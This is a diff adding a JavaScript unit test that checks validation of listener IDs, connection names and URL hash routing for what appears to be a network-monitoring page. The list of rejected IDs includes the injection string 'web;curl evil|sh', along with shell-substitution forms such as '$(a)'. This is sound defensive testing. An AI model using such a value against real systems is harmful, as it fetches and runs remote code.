@@ -153,6 +153,33 @@ test('who waits to be accepted is known of TCP that listens', async () => {
   }
 });
 
+test('the place of the page names a listener or nothing', async () => {
+  const {isConnectionName, isListenerId, placeOf} = await load('names');
+  const ids = ['a', 'web', 'web-1', 'a--b', 'a' + '0'.repeat(62)];
+  const others = ['', 'A', '1a', '-a', 'a-', 'a' + '0'.repeat(63), 'a b', 'a\n', '\na',
+    'web;curl evil|sh\n', 'web\n', 'a.b', 'a/b', 'ä', 'a\u2028', '$(a)', '`a`', "a'b"];
+  for (const id of ids) {
+    assert.ok(isListenerId(id), id);
+    assert.deepStrictEqual(placeOf(`#listener/${encodeURIComponent(id)}`),
+        {view: 'listener', id});
+    assert.ok(isConnectionName(`connections/${id}`));
+  }
+  for (const id of others) {
+    assert.ok(!isListenerId(id), id);
+    assert.deepStrictEqual(placeOf(`#listener/${encodeURIComponent(id)}`),
+        {view: 'listener', id: ''});
+    assert.ok(!isConnectionName(id));
+    if (id !== '1a') assert.ok(!isConnectionName(`connections/${id}`), id);
+  }
+  const overview = {view: 'overview', id: ''};
+  for (const hash of ['', '#', '#%', '#%zz', '#%E0%A4%A', '#listener', '#x', '#events/',
+    '#listener/%']) {
+    assert.deepStrictEqual(placeOf(hash), overview, hash);
+  }
+  assert.deepStrictEqual(placeOf('#events'), {view: 'events', id: ''});
+  assert.deepStrictEqual(placeOf('#listener/'), {view: 'listener', id: ''});
+});
+
 test('the last minute of a listener that is still for long is empty', async () => {
   const {Model, SHORT} = await load('model');
   const model = new Model();
